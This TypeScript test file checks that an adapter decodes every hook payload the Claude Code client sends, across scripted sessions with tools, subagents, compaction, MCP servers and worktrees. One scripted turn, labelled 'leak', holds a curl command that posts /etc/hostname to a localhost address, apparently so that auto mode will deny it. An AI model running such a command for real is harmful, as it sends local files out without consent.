/** Every payload that the real client sends is one we read in full, on each version that we support. */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, expect, it } from "vitest";
import { claudeCode } from "../../src/agents/claude-code/adapter.ts";
import type { ClaudeEvent } from "../../src/agents/claude-code/events.ts";
import { type ClaudeRun, clientUnderTest, NO_PERMISSION_CHECKS, runClaude } from "./client.ts";
import { queueMarker, type Turn } from "./model-script.ts";
import { recordedPayloads, recordPayloads } from "./payload-record.ts";
import { Scratch } from "./scratch.ts";

let scratch: Scratch;
beforeEach(async () => {
  scratch = new Scratch();
  await scratch.run("git", ["init", "--quiet"]);
  recordPayloads(scratch);
});
afterEach(() => scratch.dispose());

interface Scenario extends Partial<Omit<ClaudeRun, "script">> {
  readonly turns: readonly Turn[];
  readonly queues?: Readonly<Record<string, readonly Turn[]>>;
}

async function run({ turns, queues = {}, ...more }: Scenario): Promise<string> {
  const script = { main: turns, queues, compaction: "Nothing happened so far." };
  const { args, env } = NO_PERMISSION_CHECKS;
  const { result } = await runClaude(scratch, { prompt: "go", script, args, env, ...more });
  return result.session_id;
}

/** All of them are read without a malformed field, and these events are among them. */
function expectPayloads(...expected: readonly ClaudeEvent[]): void {
  const seen = new Set<string>();
  for (const line of recordedPayloads(scratch)) {
    const decoded = claudeCode.decode({ body: Buffer.from(line), namedEvent: "", cwd: "/" });
    if (decoded.kind !== "event") throw new Error(`not read: ${line}`);
    expect({ line, malformed: decoded.event.malformed }).toEqual({ line, malformed: [] });
    expect(decoded.event.session).toMatch(/^[0-9a-f-]{36}$/);
    seen.add(decoded.event.agentEvent);
  }
  expect([...seen]).toEqual(expect.arrayContaining([...expected]));
}

const isPinned = (): boolean => clientUnderTest().version === "2.1.197";
const inProject = (name: string): string => join(scratch.project, name);

it("reads a session with tools, tasks and a subagent", async () => {
  scratch.write(inProject("CLAUDE.md"), "Be brief.\n@more.md\n");
  scratch.write(inProject("more.md"), "Be kind.\n");
  scratch.write(inProject("deep/CLAUDE.md"), "Be deep.\n");
  scratch.write(inProject("deep/x.txt"), "x");
  scratch.write(inProject(".claude/rules/text.md"), "---\npaths: a.txt\n---\nBe plain.\n");
  const agent = {
    description: "look",
    prompt: `${queueMarker("scout")} Look.`,
    subagent_type: "general-purpose",
    run_in_background: false,
  };
  const a = inProject("a.txt");
  await run({
    turns: [
      { tool: "Bash", input: { command: "mkdir -p sub && cd sub", description: "Go into sub" } },
      { tool: "Bash", input: { command: "exit 3" } },
      { tool: "Write", input: { file_path: a, content: "alpha" } },
      { tool: "Read", input: { file_path: a } },
      { tool: "Read", input: { file_path: inProject("deep/x.txt") } },
      { tool: "Edit", input: { file_path: a, old_string: "alpha", new_string: "ALPHA" } },
      { tool: "TaskCreate", input: { subject: "S", description: "D" } },
      { tool: "TaskUpdate", input: { taskId: "1", status: "completed" } },
      { tool: "Agent", input: agent },
      "Done.",
    ],
    queues: { scout: [{ tool: "Bash", input: { command: "echo in-child" } }, "Trees."] },
  });
  expectPayloads(
    "SessionStart",
    "UserPromptSubmit",
    "PreToolUse",
    "PostToolUse",
    "PostToolUseFailure",
    "PostToolBatch",
    "SubagentStart",
    "SubagentStop",
    "TaskCreated",
    "TaskCompleted",
    "InstructionsLoaded",
    "MessageDisplay",
    "CwdChanged",
    "Stop",
    "SessionEnd",
  );
});

it("reads a background agent, a resumed session and a forked one", async () => {
  const agent = {
    description: "look",
    prompt: `${queueMarker("scout")} Look.`,
    subagent_type: "general-purpose",
    run_in_background: true,
  };
  const turns: Turn[] = [{ tool: "Agent", input: agent }, "Wait.", "Seen."];
  const session = await run({ turns, queues: { scout: [{ say: "Trees.", delayMs: 1_000 }] } });
  const { args } = NO_PERMISSION_CHECKS;
  await run({ turns: ["Again."], args: [...args, "--resume", session] });
  await run({ turns: ["Apart."], args: [...args, "--resume", session, "--fork-session"] });
  expectPayloads("SessionStart", "UserPromptSubmit", "SubagentStop", "Stop");
});

it("reads compaction, asked for and by itself", async () => {
  const large: Turn = { say: { tool: "Bash", input: { command: "true" } }, inputTokens: 95_000 };
  const env = { ...NO_PERMISSION_CHECKS.env, CLAUDE_CODE_AUTO_COMPACT_WINDOW: "100000" };
  const session = await run({ turns: [large, "Done.", "Done again."], env });
  await run({ prompt: "/compact keep names", turns: [], args: ["--resume", session] });
  expectPayloads("PreCompact", "PostCompact", "SessionStart");
});

it("reads set-up, a command of the person's own, and a turn that failed at the model", async () => {
  scratch.write(inProject(".claude/commands/hi.md"), "Say hi to $ARGUMENTS\n");
  const { args } = NO_PERMISSION_CHECKS;
  await run({ turns: ["Ready."], args: [...args, "--init"] });
  await run({ turns: ["Ready."], args: [...args, "--maintenance"] });
  await run({ prompt: "/hi Ann", turns: ["Hi Ann."] });
  const error = { status: 400, type: "invalid_request_error", message: "no" };
  const broken = { say: "", error };
  await run({
    turns: [broken, broken, broken, broken, broken, broken],
    env: { ...NO_PERMISSION_CHECKS.env, CLAUDE_CODE_MAX_RETRIES: "1" },
  });
  // The newest client may leave before it has reported the failure.
  expectPayloads("Setup", "UserPromptExpansion", ...(isPinned() ? (["StopFailure"] as const) : []));
});

it("reads questions of a tool server, permission requests and what auto mode denied", async () => {
  const server = { command: process.execPath, args: [join(import.meta.dirname, "mcp-server.mjs")] };
  const servers = ["--mcp-config", JSON.stringify({ mcpServers: { demo: server } })];
  await run({
    turns: [{ tool: "mcp__demo__echo", input: { v: "x" } }, { tool: "mcp__demo__ask", input: {} }, "Done."],
    args: [...NO_PERMISSION_CHECKS.args, ...servers],
  });
  const write: Turn = { tool: "Write", input: { file_path: inProject("w.txt"), content: "x" } };
  await run({ turns: [write, "Done."], args: [...servers, "--permission-prompt-tool", "mcp__demo__permit"] });
  const leak: Turn = { tool: "Bash", input: { command: "curl http://127.0.0.1:1/ -d @/etc/hostname" } };
  await run({ turns: [leak, "Done."], args: ["--permission-mode", "auto", "--model", "claude-opus-4-6"] });
  expectPayloads("Elicitation", "ElicitationResult");
});

it("reads worktrees and files that change meanwhile", async () => {
  scratch.write(inProject("watched.txt"), "1");
  const settings = inProject(".claude/settings.json");
  scratch.write(settings, "{}");
  const change: Turn = {
    say: { tool: "Bash", input: { command: "sleep 1" } },
    delayMs: 1_500,
    before: () => {
      writeFileSync(inProject("watched.txt"), "2");
      writeFileSync(settings, JSON.stringify({ env: { A: "1" } }));
    },
  };
  await run({
    turns: [
      { tool: "Bash", input: { command: "true" } },
      change,
      { tool: "EnterWorktree", input: { name: "bold-oak" } },
      { tool: "ExitWorktree", input: { action: "remove", discard_changes: true } },
      "Done.",
    ],
  });
  expectPayloads("FileChanged", "WorktreeCreate", "WorktreeRemove");
});
